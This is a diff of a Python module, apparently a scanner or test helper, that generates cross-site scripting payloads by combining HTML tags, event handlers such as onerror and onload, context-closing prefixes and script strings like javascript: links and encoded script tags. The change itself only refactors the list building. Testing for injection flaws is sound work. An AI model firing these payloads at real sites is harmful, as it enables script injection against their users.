@@ -5,7 +5,7 @@ only the templates stand between a text and its running.
 """
 
 TAGS = ("svg", "img", "body", "iframe", "details", "video", "audio", "input", "marquee", "select", "object")
-EVENTS = (
+EVENTS = [
     "onload",
     "onerror",
     "onfocus",
@@ -14,7 +14,7 @@ EVENTS = (
     "onpointerenter",
     "onanimationstart",
     "onbegin",
-)
+]
 # What closes the place in which a text stands, before something that runs.
 ENDS = (
     "",
@@ -66,14 +66,10 @@ RUNS = (
     "%3Cscript%3Ealert(1)%3C/script%3E",
     "<a href=javascript:alert(1) autofocus>x</a>",
 )
+MADE = [f"<{tag} {event}=alert(1) src=x>" for tag in TAGS for event in EVENTS]
 PAYLOADS = tuple(
     dict.fromkeys(
         [before + run for run in RUNS for before in ENDS]
-        + [
-            f"{before}<{tag} {event}=alert(1) src=x>"
-            for tag in TAGS
-            for event in EVENTS
-            for before in ("", '">')
-        ]
+        + [before + made for made in MADE for before in ("", '">')]
     )
 )
